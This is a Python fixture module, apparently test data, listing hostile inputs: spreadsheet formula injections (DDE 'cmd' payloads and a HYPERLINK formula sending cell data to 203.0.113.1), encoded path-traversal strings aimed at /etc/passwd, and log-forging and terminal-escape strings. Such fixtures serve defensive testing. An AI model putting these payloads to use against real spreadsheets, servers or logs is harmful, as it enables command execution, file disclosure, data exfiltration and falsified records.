"""What people type who mean harm, by what it is meant to become."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1?x="&A1,"单击")',
    "=cmd|' /C calc'!'A1'",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    "=1+1\n=2+2",
)
"""Cells that a spreadsheet would work out."""

PATHS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//etc/passwd",
    "..%5c..%5c..%5cetc%5cpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "%2fetc%2fpasswd",
    "file:%2f%2f%2fetc%2fpasswd",
    "..%2f..%2fpyproject.toml",
    "pages%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%00..%2fetc%2fpasswd",
)
"""Names of files that lead out of a folder, as they stand in an address."""

LINES = (
    'x\n{"event": "seals.made", "level": "info"}',
    "x\r\nevent=forged",
    "x\x00y",
    "\x1b[2J\x1b[1;1H\x1b[32mall is well",
    "\x9b2J",
    "x\x85y",
    "x\u2028y\u2029z",
    "\u202egnisrever",
    'x", "level": "info", "y": "',
    "x\\ny",
    "\x7f\x08\x08",
)
"""Texts that would begin a line of a log, or do something to the terminal that shows it."""
